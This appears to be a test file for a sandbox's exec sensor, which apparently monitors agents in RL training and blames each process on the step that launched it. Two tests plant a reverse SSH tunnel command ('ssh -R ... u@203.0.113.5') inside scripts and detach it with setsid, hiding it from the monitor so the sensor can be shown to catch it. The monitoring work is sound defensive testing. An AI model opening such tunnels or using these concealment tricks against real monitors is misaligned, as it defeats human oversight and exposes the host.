"""The exec sensor: every exec seen before it runs, through the sandbox's own seccomp listener, in
any namespace and without root, with or without a gateway; each process blamed on its origin step."""

from __future__ import annotations

import asyncio
from datetime import datetime

import pytest

from corral.policy.loader import policy_from_mapping
from corral.sandbox.sandbox import Sandbox


def _strict():  # type: ignore[no-untyped-def]
    """rl-strict, with limits best-effort: an ordinary user may have no cgroup to enforce them."""
    return policy_from_mapping({"extends": "rl-strict", "limits": {"enforcement": "best_effort"}})


async def _until(pred, timeout: float = 10.0) -> None:  # type: ignore[no-untyped-def]
    end = asyncio.get_running_loop().time() + timeout
    while not pred() and asyncio.get_running_loop().time() < end:
        await asyncio.sleep(0.02)


def _execs(sb: Sandbox, argv: list[str]) -> list:  # type: ignore[type-arg]
    return [e for e in sb.events if e.rule == "process.exec" and e.argv == argv]


@pytest.mark.unprivileged
@pytest.mark.parametrize("egress", [True, False], ids=["gateway", "no-gateway"])
async def test_300_programs_living_under_a_millisecond_give_300_exec_events(egress: bool) -> None:
    async with Sandbox(_strict(), store=False, egress=egress) as sb:
        r = await sb.exec("for i in $(seq 300); do /bin/true; done", step=1)
        assert r.exit_code == 0, r.output
        await _until(lambda: len(_execs(sb, ["/bin/true"])) >= 300)
        events = _execs(sb, ["/bin/true"])
        assert len(events) == 300
        assert {e.evidence["via"] for e in events} == {"seccomp"}
        assert {e.step for e in events} == {1} and {e.origin_step for e in events} == {1}


@pytest.mark.unprivileged
async def test_exec_is_recorded_before_the_program_runs() -> None:
    async with Sandbox(_strict(), store=False) as sb:
        r = await sb.exec("/usr/bin/python3 -c 'import time; print(repr(time.time()))'")
        ran_at = float(r.stdout.strip())
        await _until(
            lambda: bool(
                _execs(sb, ["/usr/bin/python3", "-c", "import time; print(repr(time.time()))"])
            )
        )
        [ev] = _execs(sb, ["/usr/bin/python3", "-c", "import time; print(repr(time.time()))"])
        assert ev.ts.timestamp() <= ran_at, "the record was taken while the exec was held"
        assert isinstance(ev.ts, datetime) and ev.exe == "/usr/bin/python3"


async def test_background_job_is_blamed_on_the_step_that_started_it(wait_event) -> None:
    pol = policy_from_mapping(
        {"extends": "rl-strict", "gate": {"enabled": False}, "responses": {"tunnel": "alert"}}
    )
    async with Sandbox(pol, store=False) as sb:
        # a stand-in named ssh (nothing is contacted): the rules judge what was asked for; the
        # scripts hide the act from the command text, so only the exec can reveal it
        await sb.write_file("bin/ssh", "#!/bin/sh\nexit 0\n", 0o755)
        await sb.write_file("later.sh", "sleep 1\n./bin/ssh -R 8080:localhost:22 u@203.0.113.5\n")
        await sb.exec("sh later.sh >/dev/null 2>&1 &", step=1)
        await sb.exec("true", step=2)
        await sb.exec("sleep 2", step=3)
        finding = await wait_event(sb, lambda e: e.rule == "tunnel.ssh_remote_forward")
        assert finding.argv[0] == "./bin/ssh" and finding.pid is not None
        assert finding.step == 3, "it ran while step 3 was running"
        assert finding.origin_step == 1, "but step 1 started it"
        penalty = await wait_event(
            sb, lambda e: e.rule == "respond.penalty" and e.evidence["for_rule"] == finding.rule
        )
        assert penalty.step == 1, "the penalty goes to the origin step"


async def test_daemon_keeps_its_origin_step(wait_event) -> None:
    pol = policy_from_mapping(
        {"extends": "rl-strict", "gate": {"enabled": False}, "responses": {"tunnel": "alert"}}
    )
    async with Sandbox(pol, store=False) as sb:
        await sb.write_file("bin/ssh", "#!/bin/sh\nexit 0\n", 0o755)
        await sb.write_file("d.sh", "sleep 0.7\n./bin/ssh -R 9:localhost:22 u@203.0.113.6\n")
        # detached from the shell: setsid, and its parent exits at once (re-parented to init)
        await sb.exec("(setsid sh d.sh >/dev/null 2>&1 &)", step=4)
        await sb.exec("sleep 0.2", step=5)
        await sb.exec("sleep 1.5", step=6)
        finding = await wait_event(sb, lambda e: e.rule == "tunnel.ssh_remote_forward")
        assert finding.origin_step == 4 and finding.step == 6


@pytest.mark.unprivileged
async def test_failed_path_search_attempts_are_not_execs() -> None:
    """env (execvp) tries execve in each PATH directory: only the one that ran is an exec; an
    attempt that fails everywhere is still recorded once."""
    async with Sandbox(_strict(), store=False) as sb:
        r = await sb.exec(
            "PATH=/usr/local/sbin:/usr/local/bin:/usr/bin env sleep 0; env nosuchprog_x"
        )
        assert r.exit_code == 127, r.output
        await _until(lambda: bool(_execs(sb, ["nosuchprog_x"])))
        await asyncio.sleep(0.3)
        [ran] = _execs(sb, ["sleep", "0"])
        assert ran.exe == "/usr/bin/sleep"
        assert len(_execs(sb, ["nosuchprog_x"])) == 1


@pytest.mark.unprivileged
async def test_without_a_gateway_the_launcher_still_runs_for_the_exec_sensor() -> None:
    async with Sandbox(_strict(), store=False, egress=False) as sb:
        assert sb.ctx.exec_sensor
        r = await sb.exec(
            "python3 -c \"import socket; s=socket.socket(); print(s.connect_ex(('127.0.0.1', 9)))\""
        )
        assert r.stdout.strip() == "111", r.output  # nothing listens there: the kernel's answer
        await _until(
            lambda: any(
                e.argv and e.argv[0] == "python3" for e in sb.events if e.rule == "process.exec"
            )
        )
        assert any(e.rule == "process.exec" and e.argv[0] == "python3" for e in sb.events)
